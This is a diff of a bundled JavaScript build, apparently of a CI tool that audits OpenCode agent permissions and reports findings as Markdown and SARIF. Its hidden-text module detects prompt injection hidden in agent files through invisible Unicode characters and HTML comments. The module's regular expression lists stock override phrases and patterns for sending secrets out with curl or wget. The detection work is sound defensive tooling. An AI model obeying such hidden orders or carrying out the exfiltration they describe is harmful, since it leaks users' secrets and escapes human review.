+        return { head: '', rows: [] };
+    const folded = foldMatrix(matrix);
+    const keys = folded.keys.slice(0, COLUMNS);
+    const table = [
+        `| agent | defined in | ${keys.map((key) => markdownCellCode(key)).join(' | ')} |`,
+        `|---|---|${keys.map(() => '---|').join('')}`,
+    ];
+    const head = [
+        '### What the agents may do\n',
+        sentences(folded, matrix, folded.keys.length - keys.length).join('\n\n'),
+        ...(folded.groups.length === 0 ? [] : ['', ...table]),
+    ].join('\n');
+    return { head, rows: folded.groups.map((group) => renderRow(group, keys)) };
+}
+const LEGEND = 'Effective permissions at the head; `pattern` depends on what is asked for. In a run without a person `ask` means deny.';
+function sentences(folded, matrix, hidden) {
+    const { same, untouched } = folded;
+    const changes = changesIn(matrix);
+    const list = same.map(describeSame).join(', ');
+    return [
+        `${LEGEND}${hidden > 0 ? ` ${counted(hidden, 'more key')} in the JSON report.` : ''}`,
+        changes === ''
+            ? ''
+            : `Against the base: **${changes}**. A changed cell shows what it was and what it is.`,
+        list === '' ? '' : `The same for all of these agents: ${list}.`,
+        untouched.length === 0 ? '' : `As OpenCode has them: ${untouched.map(markdownCode).join(', ')}.`,
+    ].filter((line) => line !== '');
+}
+function describeSame({ key, cell, except }) {
+    const but = except === null ? '' : ` (${markdownCode(except.agent)}: ${except.cell})`;
+    return `${markdownCode(key)} ${cell}${but}`;
+}
+/** `2 agents added, 1 agent changed`; empty without a base, `no agent changed` when nothing has. */
+function changesIn(matrix) {
+    if (matrix.every(({ status }) => status === undefined))
+        return '';
+    const parts = ['added', 'changed', 'removed'].flatMap((status) => {
+        const count = matrix.filter((row) => row.status === status).length;
+        return count === 0 ? [] : [`${counted(count, 'agent')} ${status}`];
+    });
+    return parts.length === 0 ? 'no agent changed' : parts.join(', ');
+}
+function renderRow({ row, others }, keys) {
+    const status = row.status === undefined || row.status === 'same' ? '' : ` (${row.status})`;
+    const more = others.length === 0 ? '' : ` and ${counted(others.length, 'agent')} alike`;
+    const marks = keys.map((key) => renderCell(row, key));
+    const origin = others.length === 0 ? markdownCellCode(cut(row.origin, 120)) : '';
+    return `| ${[`${markdownCellCode(row.agent)}${more}${status}`, origin, ...marks].join(' | ')} |`;
+}
+function renderCell(row, key) {
+    const cell = emphasise(cellAt(row.cells, key));
+    const before = wasBefore(row, key);
+    if (before === null)
+        return cell;
+    if (before === cellAt(row.cells, key))
+        return `${cell} (other patterns)`;
+    return `${before === 'none' ? '–' : before} → ${cell}`;
+}
+function emphasise(cell) {
+    return cell === 'allow' ? '**allow**' : (cell ?? '–');
+}
+
 ;// CONCATENATED MODULE: ./build/report/summary/findings.js
 
 
@@ -22526,9 +22698,9 @@ function findingsTable(outcome) {
         '| severity | where | what | found by | confidence | status |',
         '|---|---|---|---|---|---|',
     ].join('\n');
-    return { head, rows: all.map((finding) => renderRow(finding, outcome.failOn)) };
+    return { head, rows: all.map((finding) => findings_renderRow(finding, outcome.failOn)) };
 }
-function renderRow(finding, failOn) {
+function findings_renderRow(finding, failOn) {
     const { severity, path, title, confidence, accepted } = finding;
     const status = statusOf(finding, failOn);
     const because = accepted === undefined ? '' : `: ${markdownText(cut(accepted.reason, 200))}`;
@@ -22543,7 +22715,7 @@ function renderRow(finding, failOn) {
     return `| ${cells.join(' | ')} |`;
 }
 function renderDetail(finding) {
-    const { severity, title, path, message, evidence, remedy, confidence } = finding;
+    const { severity, title, path, message, evidence, remedy, suggestion, confidence } = finding;
     const place = `${markdownCode(path)}${linesIn(finding)}`;
     const made = `${markdownText(cut(makerOf(finding), 80))} · confidence ${confidence}`;
     const parts = [
@@ -22552,8 +22724,15 @@ function renderDetail(finding) {
         markdownLines(cut(message, PROSE_UNITS), '> '),
         evidence === '' ? '' : markdownFence(fewLines(evidence)),
         remedy === undefined ? '' : `**How to fix it**\n\n${markdownLines(cut(remedy, PROSE_UNITS), '> ')}`,
+        suggestion === undefined ? '' : renderSuggestion(suggestion),
     ];
     return `${parts.filter((part) => part !== '').join('\n\n')}\n`;
+}
+/** Whole or not at all: half of a replacement is a wrong one. */
+function renderSuggestion(suggestion) {
+    if (suggestion === '')
+        return '**Suggested change:** delete the lines.';
+    return suggestion.length > EVIDENCE_UNITS ? '' : `**Suggested change**\n\n${markdownFence(suggestion)}`;
 }
 function fewLines(text) {
     const lines = linesOf(cut(text, EVIDENCE_UNITS));
@@ -22630,32 +22809,6 @@ function hardCut(text, maxBytes) {
 ;// CONCATENATED MODULE: ./build/report/summary/ledgers.js
 
 
-/** More columns than this are folded away; the JSON report has them. */
-const MATRIX_COLUMNS = 24;
-/** What each agent of the repository may do. */
-function matrixSection({ audit: { matrix } }) {
-    if (matrix.length === 0)
-        return { head: '', rows: [] };
-    const every = [...new Set(matrix.flatMap(({ cells }) => Object.keys(cells)))];
-    const keys = every.slice(0, MATRIX_COLUMNS);
-    const folded = every.length - keys.length;
-    const head = [
-        '### What the agents may do\n',
-        'Effective permissions at the head. In a run without a person `ask` means deny.' +
-            (folded > 0 ? ` ${counted(folded, 'more key')} in the JSON report.` : ''),
-        '',
-        `| agent | defined in | ${keys.map(markdownCellCode).join(' | ')} |`,
-        `|---|---|${keys.map(() => '---|').join('')}`,
-    ].join('\n');
-    const rows = matrix.map(({ agent, origin, cells }) => {
-        const marks = keys.map((key) => (Object.hasOwn(cells, key) ? emphasise(cells[key]) : '–'));
-        return `| ${[markdownCellCode(agent), markdownCellCode(origin), ...marks].join(' | ')} |`;
-    });
-    return { head, rows };
-}
-function emphasise(cell) {
-    return cell === 'allow' ? '**allow**' : (cell ?? '–');
-}
 /** What was read and what was not: every part that was not reviewed has its row. */
 function coverageSection({ review: { coverage } }) {
     const { entries, complete } = coverage;
@@ -22713,6 +22866,7 @@ function usageSection({ review: { usage, durationMs } }) {
 }
 
 ;// CONCATENATED MODULE: ./build/report/summary.js
+
 
 
 
@@ -22777,8 +22931,8 @@ function reviewerSection({ review }) {
     return { head: text === '' ? '' : `### The reviewer's own words\n\n${text}`, rows: [] };
 }
 
-;// CONCATENATED MODULE: external "node:path"
-const external_node_path_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:path");
+// EXTERNAL MODULE: external "node:path"
+var external_node_path_ = __nccwpck_require__(6760);
 ;// CONCATENATED MODULE: ./build/report/escape/json.js
 
 /**
@@ -22965,6 +23119,7 @@ function sarif_resultOf(finding, ruleIndex) {
         locations: [{ physicalLocation: locationOf(finding) }],
         partialFingerprints: { primaryLocationLineHash: finding.id, 'reviewGateFingerprint/v1': finding.id },
         ...(accepted === undefined ? {} : { suppressions: [suppressionOf(accepted)] }),
+        ...fixesOf(finding),
         properties: { severity, confidence, category: visibleLine(category), source },
     };
 }
@@ -22974,6 +23129,24 @@ function locationOf({ path, side, startLine, endLine }) {
     if (side === 'base' || startLine < 1)
         return { artifactLocation };
     return { artifactLocation, region: { startLine, endLine: Math.max(startLine, endLine) } };
+}
+/** What a tool may apply by itself: replacements that a rule worked out, never what a model wrote. */
+function fixesOf({ source, path, side, startLine, endLine, suggestion, remedy }) {
+    if (source !== 'rule' || suggestion === undefined || side === 'base' || startLine < 1)
+        return {};
+    const replacement = {
+        deletedRegion: { startLine, endLine: Math.max(startLine, endLine) },
+        insertedContent: { text: suggestion },
+    };
+    const artifactLocation = { uri: uriOf(path), uriBaseId: '%SRCROOT%' };
+    return {
+        fixes: [
+            {
+                description: { text: visibleLine(remedy ?? 'Replace the lines.') },
+                artifactChanges: [{ artifactLocation, replacements: [replacement] }],
+            },
+        ],
+    };
 }
 function suppressionOf({ reason }) {
     return { kind: 'external', status: 'accepted', justification: visibleLine(reason) };
@@ -22990,37 +23163,37 @@ function sarif_levelOf(severity) {
 
 
 
-const FLAGS = external_node_fs_namespaceObject.constants.O_WRONLY | external_node_fs_namespaceObject.constants.O_CREAT | external_node_fs_namespaceObject.constants.O_EXCL | external_node_fs_namespaceObject.constants.O_NOFOLLOW;
+const FLAGS = external_node_fs_.constants.O_WRONLY | external_node_fs_.constants.O_CREAT | external_node_fs_.constants.O_EXCL | external_node_fs_.constants.O_NOFOLLOW;
 /**
  * Writes a whole file or none of it: a new file beside it, synced, then renamed over it. A symbolic link or
  * anything else that is no regular file at `path` is refused. Throws GateError `publish-failed`.
  */
 function writeFileWhole(path, text) {
     refuseOthers(path);
-    const temporary = (0,external_node_path_namespaceObject.join)((0,external_node_path_namespaceObject.dirname)(path), `.${(0,external_node_path_namespaceObject.basename)(path)}.${(0,external_node_crypto_namespaceObject.randomBytes)(8).toString('hex')}`);
+    const temporary = (0,external_node_path_.join)((0,external_node_path_.dirname)(path), `.${(0,external_node_path_.basename)(path)}.${(0,external_node_crypto_namespaceObject.randomBytes)(8).toString('hex')}`);
     try {
         writeNew(temporary, text);
-        (0,external_node_fs_namespaceObject.renameSync)(temporary, path);
+        (0,external_node_fs_.renameSync)(temporary, path);
     }
     catch (cause) {
-        (0,external_node_fs_namespaceObject.rmSync)(temporary, { force: true });
+        (0,external_node_fs_.rmSync)(temporary, { force: true });
         throw failed(errorCodeOf(cause), cause);
     }
-    if ((0,external_node_fs_namespaceObject.lstatSync)(path).size !== Buffer.byteLength(text))
+    if ((0,external_node_fs_.lstatSync)(path).size !== Buffer.byteLength(text))
         throw failed('its size is not what was written');
 }
 function writeNew(path, text) {
-    const fd = (0,external_node_fs_namespaceObject.openSync)(path, FLAGS, 0o644);
+    const fd = (0,external_node_fs_.openSync)(path, FLAGS, 0o644);
     try {
         writeStream(fd, text);
-        (0,external_node_fs_namespaceObject.fsyncSync)(fd);
+        (0,external_node_fs_.fsyncSync)(fd);
     }
     finally {
-        (0,external_node_fs_namespaceObject.closeSync)(fd);
+        (0,external_node_fs_.closeSync)(fd);
     }
 }
 function refuseOthers(path) {
-    const stat = (0,external_node_fs_namespaceObject.lstatSync)(path, { throwIfNoEntry: false });
+    const stat = (0,external_node_fs_.lstatSync)(path, { throwIfNoEntry: false });
     if (stat === undefined || stat.isFile())
         return;
     throw failed(stat.isSymbolicLink() ? 'it is a symbolic link' : 'it is no regular file');
@@ -23041,9 +23214,9 @@ function failed(why, cause) {
 /** Where they will be; the names do not depend on anything foreign. */
 function reportPaths(directory) {
     return {
-        sarif: (0,external_node_path_namespaceObject.join)(directory, 'review-gate.sarif'),
-        report: (0,external_node_path_namespaceObject.join)(directory, 'review-gate.md'),
-        json: (0,external_node_path_namespaceObject.join)(directory, 'review-gate.json'),
+        sarif: (0,external_node_path_.join)(directory, 'review-gate.sarif'),
+        report: (0,external_node_path_.join)(directory, 'review-gate.md'),
+        json: (0,external_node_path_.join)(directory, 'review-gate.json'),
     };
 }
 /** Writes SARIF, Markdown (without GitHub's size limit) and JSON into an existing directory. Throws GateError. */
@@ -23061,7 +23234,7 @@ function writeReports(directory, outcome, sarif, redact = redactor([])) {
 
 
 
-const env_file_FLAGS = external_node_fs_namespaceObject.constants.O_RDWR | external_node_fs_namespaceObject.constants.O_APPEND | external_node_fs_namespaceObject.constants.O_CREAT | external_node_fs_namespaceObject.constants.O_NOFOLLOW;
+const env_file_FLAGS = external_node_fs_.constants.O_RDWR | external_node_fs_.constants.O_APPEND | external_node_fs_.constants.O_CREAT | external_node_fs_.constants.O_NOFOLLOW;
 /**
  * Appends name-value pairs to one of the runner's environment files (`GITHUB_OUTPUT`, `GITHUB_STATE`), each as a
  * heredoc whose delimiter nobody can foresee; a later pair of the same name wins. Throws GateError
@@ -23090,23 +23263,23 @@ function renderPair(name, value, delimiter) {
     return `${name}<<${delimiter}\n${value}\n${delimiter}\n`;
 }
 function append(path, text) {
-    const fd = (0,external_node_fs_namespaceObject.openSync)(path, env_file_FLAGS, 0o600);
+    const fd = (0,external_node_fs_.openSync)(path, env_file_FLAGS, 0o600);
     try {
-        const before = (0,external_node_fs_namespaceObject.fstatSync)(fd).size;
+        const before = (0,external_node_fs_.fstatSync)(fd).size;
         const whole = endsLine(fd, before) ? text : `\n${text}`;
         writeStream(fd, whole);
-        if ((0,external_node_fs_namespaceObject.fstatSync)(fd).size !== before + Buffer.byteLength(whole))
+        if ((0,external_node_fs_.fstatSync)(fd).size !== before + Buffer.byteLength(whole))
             throw env_file_failed('its size is not what was written');
     }
     finally {
-        (0,external_node_fs_namespaceObject.closeSync)(fd);
+        (0,external_node_fs_.closeSync)(fd);
     }
 }
 function endsLine(fd, size) {
     if (size === 0)
         return true;
     const last = Buffer.alloc(1);
-    (0,external_node_fs_namespaceObject.readSync)(fd, last, 0, 1, size - 1);
+    (0,external_node_fs_.readSync)(fd, last, 0, 1, size - 1);
     return last[0] === 0x0a;
 }
 function env_file_failed(why, cause) {
@@ -23143,30 +23316,30 @@ function stepSummary(path) {
     };
 }
 function replaceFrom(path, known, render) {
-    const fd = (0,external_node_fs_namespaceObject.openSync)(path, external_node_fs_namespaceObject.constants.O_RDWR | external_node_fs_namespaceObject.constants.O_CREAT | external_node_fs_namespaceObject.constants.O_APPEND | external_node_fs_namespaceObject.constants.O_NOFOLLOW, 0o600);
+    const fd = (0,external_node_fs_.openSync)(path, external_node_fs_.constants.O_RDWR | external_node_fs_.constants.O_CREAT | external_node_fs_.constants.O_APPEND | external_node_fs_.constants.O_NOFOLLOW, 0o600);
     try {
-        const start = known ?? (0,external_node_fs_namespaceObject.fstatSync)(fd).size;
+        const start = known ?? (0,external_node_fs_.fstatSync)(fd).size;
         const room = SUMMARY_BYTES - start - 1;
         if (room < LEAST_BYTES)
             throw step_summary_failed('other parts of this step have filled it');
         const text = `${start === 0 ? '' : '\n'}${render(room)}`;
-        (0,external_node_fs_namespaceObject.ftruncateSync)(fd, start);
+        (0,external_node_fs_.ftruncateSync)(fd, start);
         writeStream(fd, text);
         step_summary_confirm(fd, start, text);
         return start;
     }
     finally {
-        (0,external_node_fs_namespaceObject.closeSync)(fd);
+        (0,external_node_fs_.closeSync)(fd);
     }
 }
 /** Reads back what is there: GitHub drops a file that is too large without failing the step. */
 function step_summary_confirm(fd, start, text) {
     const expected = Buffer.from(text, 'utf8');
     const actual = Buffer.alloc(expected.length);
-    const count = (0,external_node_fs_namespaceObject.readSync)(fd, actual, 0, actual.length, start);
+    const count = (0,external_node_fs_.readSync)(fd, actual, 0, actual.length, start);
     if (count !== expected.length || !actual.equals(expected))
         throw step_summary_failed('it does not hold what was written');
-    if ((0,external_node_fs_namespaceObject.fstatSync)(fd).size !== start + expected.length)
+    if ((0,external_node_fs_.fstatSync)(fd).size !== start + expected.length)
         throw step_summary_failed('its size is not what was written');
     if (start + expected.length > SUMMARY_BYTES)
         throw step_summary_failed('it is larger than GitHub accepts');
@@ -23302,62 +23475,280 @@ function putOutputs(outputs, { settings: { env } }) {
     return Object.keys(outputs).length;
 }
 
-;// CONCATENATED MODULE: ./build/opencode/built-in.js
-/** OpenCode's data and temporary directories, which only a running OpenCode knows. */
-const DATA = '<data>';
-const TEMPORARY = '<tmp>';
-const TOOL_OUTPUT = `${DATA}/tool-output/*`;
-const EXTERNAL_DIRECTORY = [
-    builtIn('external_directory', '*', 'ask'),
-    builtIn('external_directory', TOOL_OUTPUT, 'allow'),
-    builtIn('external_directory', `${TEMPORARY}/opencode/*`, 'allow'),
-];
-/** What every agent starts from. */
-const DEFAULT_RULES = [
-    builtIn('*', '*', 'allow'),
-    builtIn('doom_loop', '*', 'ask'),
-    ...EXTERNAL_DIRECTORY,
-    builtIn('question', '*', 'deny'),
-    builtIn('plan_enter', '*', 'deny'),
-    builtIn('plan_exit', '*', 'deny'),
-    builtIn('read', '*', 'allow'),
-    builtIn('read', '*.env', 'ask'),
-    builtIn('read', '*.env.*', 'ask'),
-    builtIn('read', '*.env.example', 'allow'),
-];
-const READING = ['grep', 'glob', 'list', 'bash', 'webfetch', 'websearch', 'read'];
-const NOTHING = [builtIn('*', '*', 'deny')];
-const BUILT_INS = [
-    agent('build', 'primary', [builtIn('question', '*', 'allow'), builtIn('plan_enter', '*', 'allow')]),
-    agent('plan', 'primary', [
-        builtIn('question', '*', 'allow'),
-        builtIn('plan_exit', '*', 'allow'),
-        builtIn('task', 'general', 'deny'),
-        builtIn('external_directory', `${DATA}/plans/*`, 'allow'),
-        builtIn('edit', '*', 'deny'),
-        builtIn('edit', '.opencode/plans/*.md', 'allow'),
-        builtIn('edit', `${DATA}/plans/*.md`, 'allow'),
-    ]),
-    agent('general', 'subagent', [builtIn('todowrite', '*', 'deny')]),
-    agent('explore', 'subagent', [
-        ...NOTHING,
-        ...READING.map((key) => builtIn(key, '*', 'allow')),
-        ...EXTERNAL_DIRECTORY,
-    ]),
-    { ...agent('compaction', 'primary', NOTHING), hidden: true },
-    { ...agent('title', 'primary', NOTHING), hidden: true },
-    { ...agent('summary', 'primary', NOTHING), hidden: true },
-];
-/** What stands after everything else, unless a user denied exactly this. */
-function closingRules(rules) {
-    const denied = rules.some((rule) => rule.permission === 'external_directory' && rule.pattern === TOOL_OUTPUT && rule.action === 'deny');
-    return denied ? [] : [builtIn('external_directory', TOOL_OUTPUT, 'allow')];
+;// CONCATENATED MODULE: ./build/opencode/quote-name.js
+const MAX = 60;
+/** A foreign name inside a sentence: in quotes, on one line, short. Encoders for each surface come after this. */
+function quoteName(name) {
+    const flat = name.slice(0, 4 * MAX).replace(/[\p{C}\p{Zl}\p{Zp}"`]/gu, '?');
+    return `"${flat.length > MAX ? `${flat.slice(0, MAX)}…` : flat}"`;
 }
-function agent(name, mode, rules) {
-    return { name, mode, hidden: false, rules };
+
+;// CONCATENATED MODULE: ./build/audit/rules/agent-changed-without-evals.js
+
+const agentChangedWithoutEvals = {
+    id: 'agent-changed-without-evals',
+    title: 'An agent changed and no eval did',
+    summary: 'A change touches an agent and no eval case, so that nothing shows what the agent now does.',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'governance',
+    offByDefault: true,
+    *check({ project, base, change }) {
+        if (base === null || change.files.some(isEval))
+            return;
+        const names = new Map(change.files.map((file) => [file.path, file.basePath]));
+        for (const asset of project.assets.values()) {
+            if (asset.kind !== 'agent' && asset.kind !== 'mode')
+                continue;
+            const before = base.assets.get(names.get(asset.path) ?? asset.path);
+            if (before !== undefined && before.text === asset.text)
+                continue;
+            const what = before === undefined ? 'is new' : 'changes';
+            const message = `The agent ${quoteName(asset.name)} ${what}, and no file in a folder named evals changes with it.`;
+            yield { path: asset.path, line: 0, message, identity: asset.text ?? '', remedy: agent_changed_without_evals_REMEDY };
+        }
+    },
+};
+const agent_changed_without_evals_REMEDY = 'Add or adapt a case in a folder named evals that shows what the agent is to do now.';
+function isEval(file) {
+    return file.status !== 'deleted' && /(?:^|\/)evals?\//.test(file.path);
 }
-function builtIn(permission, pattern, action) {
-    return { permission, pattern, action, origin: null, way: 'built-in' };
+
+;// CONCATENATED MODULE: ./build/audit/hidden-text.js
+/** Turns the direction of text, so that it reads otherwise than it is stored. */
+const BIDI = /[\u202A-\u202E\u2066-\u2069]/gu;
+/** Letters nobody sees, one for each of ASCII; flags of emoji are made of them after a black flag. */
+const TAGS = /(?<!\u{1F3F4}[\u{E0000}-\u{E007F}]{0,8})[\u{E0000}-\u{E007F}]/gu;
+const SELECTORS = /[\u{E0100}-\u{E01EF}]|[\uFE00-\uFE0F]{2,}/gu;
+/** No width. Joiners have a use between emoji, and in scripts that are not written in Latin letters. */
+const ZERO_WIDTH = /[\u200B\u2060-\u2064\u180E]|(?<!^)\uFEFF|(?<![\p{Emoji}\p{Emoji_Modifier}\uFE0F\p{Script=Arabic}\p{Script=Hebrew}\p{Script=Devanagari}\p{Script=Bengali}\p{Script=Tamil}\p{Script=Telugu}\p{Script=Kannada}\p{Script=Malayalam}\p{Script=Sinhala}\p{Script=Khmer}\p{Script=Myanmar}\u094D])[\u200C\u200D]/gu;
+const INVISIBLE = [
+    [BIDI, 'characters that reverse the direction of text'],
+    [TAGS, 'invisible tag characters, which spell a text that only the model reads'],
+    [SELECTORS, 'invisible variation selectors, which can carry a text'],
+    [ZERO_WIDTH, 'characters without width'],
+];
+/** Every line with something in it that people do not see. */
+function* hiddenIn(lines) {
+    for (const [index, text] of lines.entries()) {
+        const found = INVISIBLE.filter(([pattern]) => text.search(pattern) >= 0);
+        if (found.length === 0)
+            continue;
+        const names = found.map(([, name]) => name).join(', and ');
+        const plain = found.reduce((rest, [pattern]) => rest.replace(pattern, ''), text);
+        const message = `This line has ${names} (${codesOf(text, plain)}): what an editor shows is not what the model reads.`;
+        yield {
+            line: index + 1,
+            endLine: index + 1,
+            message,
+            remedy: 'Take them out, and look at what remains.',
+            plain,
+        };
+    }
+    yield* comments(lines);
+}
+function codesOf(text, plain) {
+    const left = new Map();
+    for (const character of plain)
+        left.set(character, (left.get(character) ?? 0) + 1);
+    const codes = new Set();
+    for (const character of text) {
+        const count = left.get(character) ?? 0;
+        if (count > 0)
+            left.set(character, count - 1);
+        else
+            codes.add(`U+${(character.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, '0')}`);
+    }
+    const all = [...codes];
+    return all.length > 4 ? `${all.slice(0, 4).join(', ')} and more` : all.join(', ');
+}
+const ORDER = /\b(?:ignore|disregard|forget|override|bypass)\b.{0,40}\b(?:previous|above|prior|earlier|all|other|any|system|your|these|safety)\b|\bdo not (?:tell|mention|reveal|show|inform|report|disclose|ask)\b|\bwithout (?:asking|telling|confirmation|approval|permission)\b|\b(?:exfiltrate|upload|curl|wget|send|post|forward)\b.{0,60}\b(?:https?:|secrets?|tokens?|credentials?|passwords?|\.env|api[ _-]?keys?|environment)|\bsystem prompt\b|\byou (?:must|are now|will now|shall)\b|\balways (?:approve|allow|answer|run|execute|include|add)\b|\b(?:AI|agents?|assistants?|models?|LLMs?)\b.{0,20}\b(?:must|should|shall|has to|have to)\b/is;
+/** `<!-- … -->` is not on the rendered page; an order inside it is meant for the model alone. */
+function* comments(lines) {
+    let fenced = false;
+    for (let index = 0; index < lines.length; index += 1) {
+        const text = lines[index] ?? '';
+        if (/^\s*(?:```|~~~)/.test(text))
+            fenced = !fenced;
+        const open = fenced ? -1 : text.replace(/`[^`]*`/g, (code) => ' '.repeat(code.length)).indexOf('<!--');
+        if (open < 0)
+            continue;
+        const end = endOfComment(lines, index, open);
+        const content = contentOf(lines, index, end, open);
+        if (ORDER.test(content.slice(0, 4000))) {
+            const message = 'This comment is not on any rendered page, and the model reads it: it gives orders that a reviewer of the page does not see.';
+            const remedy = 'Write it as visible text, or remove it.';
+            yield { line: index + 1, endLine: end + 1, message, remedy, plain: null };
+        }
+        index = end;
+    }
+}
+const MAX_COMMENT_LINES = 200;
+function endOfComment(lines, start, open) {
+    if (lines[start]?.includes('-->', open) === true)
+        return start;
+    const last = Math.min(lines.length - 1, start + MAX_COMMENT_LINES);
+    for (let index = start + 1; index <= last; index += 1)
+        if (lines[index]?.includes('-->') === true)
+            return index;
+    return last;
+}
+function contentOf(lines, start, end, open) {
+    const text = [lines[start]?.slice(open + 4) ?? '', ...lines.slice(start + 1, end + 1)].join('\n');
+    const close = text.indexOf('-->');
+    return close < 0 ? text : text.slice(0, close);
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/agent-hidden-instructions.js
+
+const agentHiddenInstructions = {
+    id: 'agent-hidden-instructions',
+    title: 'Text that people do not see and the model reads',
+    summary: 'A prompt, skill or configuration has invisible characters, or orders in a comment that no page shows.',
+    severity: 'high',
+    confidence: 'medium',
+    category: 'governance',
+    *check({ project }) {
+        for (const asset of project.assets.values()) {
+            if (asset.text === null || !isForTheModel(asset.kind, asset.name))
+                continue;
+            for (const { line, endLine, message, remedy, plain } of hiddenIn(asset.lines)) {
+                const hit = { path: asset.path, line, message, remedy };
+                const lines = endLine === line ? {} : { endLine };
+                yield plain === null ? { ...hit, ...lines } : { ...hit, ...lines, suggestion: plain };
+            }
+        }
+    },
+};
+const KINDS = new Set([
+    'agent',
+    'command',
+    'config',
+    'instructions',
+    'mode',
+    'plugin',
+    'skill',
+    'tool',
+]);
+function isForTheModel(kind, name) {
+    return KINDS.has(kind) || (kind === 'other' && /\.(?:md|mdc|txt|ya?ml|[cm]?[jt]s)$/i.test(name));
+}
+
+;// CONCATENATED MODULE: ./build/audit/before.js
+/** The set-up of the base that a start in `folder` had: its own, else that of the nearest folder above it. */
+function setUpBefore({ base }, folder) {
+    if (base === null)
+        return null;
+    const found = base.setUps.filter((one) => one.folder === '' || `${folder}/`.startsWith(`${one.folder}/`));
+    return found.toSorted((a, b) => b.folder.length - a.folder.length)[0] ?? null;
+}
+/** For the agents that a start in `folder` has. */
+function findAgentsBefore(context, folder) {
+    const agents = setUpBefore(context, folder)?.agents ?? [];
+    const byName = new Map(agents.map((agent) => [agent.name, agent]));
+    const byPath = new Map(agents.map((agent) => [agent.definedAt?.path, agent]));
+    const renamed = new Map(context.change.files
+        .filter((file) => file.status === 'renamed' && file.path.endsWith('.md'))
+        .map((file) => [file.path, file.basePath]));
+    return (agent) => {
+        const was = renamed.get(agent.definedAt?.path ?? '');
+        return byName.get(agent.name) ?? (was === undefined ? undefined : byPath.get(was)) ?? null;
+    };
+}
+/** The name that a file of the base has now, and null when it is gone. */
+function pathNow({ project, change }, path) {
+    const now = change.files.find((file) => file.status === 'renamed' && file.basePath === path)?.path ?? path;
+    return project.assets.has(now) ? now : null;
+}
+/** The same context as if the base were looked at; null when there is none. */
+function atBase(context) {
+    return context.base === null ? null : { ...context, side: 'base', project: context.base, base: null };
+}
+/** Each skill of the head that the base had, by its place or by its name there. */
+function* skillsBefore({ project, base, }) {
+    const old = new Map();
+    for (const asset of base?.assets.values() ?? [])
+        if (asset.kind === 'skill')
+            old.set(asset.name, asset);
+    for (const now of project.assets.values()) {
+        if (now.kind !== 'skill')
+            continue;
+        const same = base?.assets.get(now.path) ?? old.get(now.name);
+        if (same !== undefined)
+            yield { now, before: same };
+    }
+}
+
+;// CONCATENATED MODULE: ./build/audit/quote-names.js
+
+/** `"a", "b", "c" and 4 more`. */
+function quoteNames(names) {
+    const shown = names.slice(0, 3).map(quoteName);
+    if (names.length > shown.length)
+        return `${shown.join(', ')} and ${names.length - shown.length} more`;
+    return shown.length < 2 ? shown.join('') : `${shown.slice(0, -1).join(', ')} and ${shown.at(-1) ?? ''}`;
+}
+
+;// CONCATENATED MODULE: ./build/audit/by-spot.js
+
+/** Each place once: a rule for all agents is one line to change, however many agents it reaches. */
+function bySpot(cases) {
+    const groups = new Map();
+    for (const { spot, agent, value } of cases) {
+        if (spot === null)
+            continue;
+        const key = `${spot.line}\0${spot.path}\0${spot.identity ?? spot.scope ?? ''}`;
+        const group = groups.get(key) ?? { spot, value, agents: new Set() };
+        group.agents.add(agent.name);
+        groups.set(key, group);
+    }
+    return [...groups.values()].map(({ spot, value, agents }) => ({ spot, value, agents: [...agents] }));
+}
+/** `the agent "a"`, or `the agents "a", "b" and 2 more`. */
+function nameAgents(agents) {
+    return `the ${agents.length === 1 ? 'agent' : 'agents'} ${quoteNames(agents)}`;
+}
+/** The same at the start of a sentence. */
+function agentsMay(agents) {
+    return `T${nameAgents(agents).slice(1)} may`;
+}
+
+;// CONCATENATED MODULE: ./build/audit/gains.js
+
+
+/** Whether the change wrote the rule that decides now: the base had none like it for this agent. */
+function isBrought(rule, { before }) {
+    if (rule.origin === null)
+        return false;
+    return !before?.rules.some((old) => old.origin !== null &&
+        old.permission === rule.permission &&
+        old.pattern === rule.pattern &&
+        old.action === rule.action);
+}
+/** Somebody is still asked, or only OpenCode's own question is gone, which other rules weigh. */
+function isMinor({ to, was }) {
+    return to === 'ask' || was?.origin === null;
+}
+/** `"bash", "edit" and 3 more`. */
+function wordsFor(widenings) {
+    return quoteNames(widenings.map(({ request }) => request.words));
+}
+/** `it was denied at the base (opencode.json:4), and is allowed now`. */
+function standing(widenings, context) {
+    const worst = widenings.find((one) => one.from === 'deny') ?? widenings[0];
+    if (worst === undefined)
+        return '';
+    const { from, to, was } = worst;
+    const before = from === 'deny' ? 'denied' : 'asked about';
+    const now = to === 'allow' ? 'allowed' : 'asked about';
+    return `at the base it was ${before} ${whereOf(was, context)}, here it is ${now}`;
+}
+function whereOf(rule, { base }) {
+    const origin = rule?.origin ?? null;
+    if (origin === null)
+        return 'by default';
+    const { path, line } = origin;
+    return base?.assets.has(path) ? `(${quoteName(path)}, line ${line})` : '';
 }
 
 ;// CONCATENATED MODULE: ./build/opencode/node.js
@@ -23437,39 +23828,53 @@ function isIndex(key) {
     return /^(?:0|[1-9]\d{0,9})$/.test(key) && Number(key) < 2 ** 32 - 1;
 }
 
-;// CONCATENATED MODULE: ./build/opencode/merge.js
-
-/**
- * OpenCode's deep merge, lowest layer first: objects are merged, anything else is replaced, a key that exists keeps
- * its position and takes the new place. The position matters, because the last rule that matches decides. All
- * layers are merged at once, so that many layers with one agent each take linear time.
- */
-function mergeDeep(layers) {
-    const nodes = layers.filter((layer) => layer !== undefined);
-    const last = nodes.at(-1);
-    const objects = nodes.slice(nodes.findLastIndex((node) => node.kind !== 'object') + 1);
-    if (last === undefined || objects.length < 2)
-        return last;
-    const byKey = new Map();
-    for (const object of objects) {
-        if (object.kind === 'object')
-            for (const entry of object.entries.values())
-                push(byKey, entry);
+;// CONCATENATED MODULE: ./build/opencode/semantics-of.js
+const semantics_of_FEW_KEYS = new Set([
+    'edit',
+    'bash',
+    'webfetch',
+    'doom_loop',
+    'external_directory',
+]);
+/** The version that is pinned, whose semantics are proven against the binary. */
+const PINNED_VERSION = '1.18.33';
+const OLDEST = {
+    dialect: 1,
+    evaluation: 'longest-pattern',
+    envRead: 'deny',
+    optionalTail: false,
+    pluralFolders: false,
+    keys: 'few',
+    newPermissions: 'refused',
+    newAgents: 'refused',
+    winner: 'opencode.json',
+    inheritsDenials: false,
+};
+/** Oldest first; each row says what is new. */
+const FACTS = [
+    ['1.1.11', { evaluation: 'last-match', pluralFolders: true, keys: 'any' }],
